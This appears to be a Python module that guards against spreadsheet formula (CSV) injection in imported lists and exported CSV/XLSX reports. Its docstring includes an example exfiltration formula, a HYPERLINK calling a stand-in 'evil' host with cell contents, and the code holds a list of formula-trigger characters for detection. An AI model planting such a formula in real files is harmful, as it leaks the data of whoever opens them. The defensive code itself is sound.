"""Keeping spreadsheet formulas out: of the lists we import, and of every file we hand out.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) is run as a formula by Excel and LibreOffice: ``=HYPERLINK("http://evil/?"&A1)`` in a name
column exfiltrates the sheet the moment a supervisor opens a report (OWASP "CSV injection").

- On the way in, ``looks_like_formula`` lets the importer refuse such a cell unless it is a
  well-formed value of a field that may start so (``+84 912 …`` is a phone number).
- On the way out, ``neutralise`` prefixes such text with an apostrophe, which spreadsheets show
  as text and never evaluate; ``csv_bytes`` and ``xlsx_bytes`` apply it to every cell, so any
  export (imports' reports here, statistics reports in ``casework.stats``) is safe by
  construction rather than by each caller remembering.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Control characters XML 1.0 (hence XLSX) cannot hold.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

Cell = str | int | float | date | datetime | bool | None


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could evaluate ``text`` (leading spaces are ignored by some)."""
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and (
        stripped.startswith(FORMULA_TRIGGERS) or text.startswith(FORMULA_TRIGGERS)
    )


def neutralise(value: Cell) -> Cell:
    """The value, with formula-like text made inert (``'=1+1``) and XML-illegal characters gone.

    Numbers, dates and booleans pass unchanged: a spreadsheet stores them as values, and a
    negative number is not a formula.
    """
    if not isinstance(value, str):
        return value
    value = _ILLEGAL_XML.sub("", value)
    return "'" + value if looks_like_formula(value) else value


def safe_rows(rows: Iterable[Sequence[Cell]]) -> Iterable[list[Cell]]:
    for row in rows:
        yield [neutralise(cell) for cell in row]


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """A CSV file (UTF-8 with BOM so Excel reads Vietnamese correctly), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    for row in safe_rows(rows):
        writer.writerow(["" if cell is None else cell for cell in row])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(
    header: Sequence[str], rows: Iterable[Sequence[Cell]], title: str = "Report"
) -> bytes:
    """An XLSX workbook of one sheet, every cell neutralised and every text cell typed as text.

    Typing the cell as a string (``data_type = "s"``) is a second line: even text that slipped
    past ``neutralise`` is stored as a shared string, never as a formula.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=str(neutralise(title))[:31] or "Report")

    def cells(values: Iterable[Cell]) -> list[Any]:
        out = []
        for value in values:
            cell = WriteOnlyCell(sheet, value=neutralise(value))
            if isinstance(cell.value, str):
                cell.data_type = "s"
            out.append(cell)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
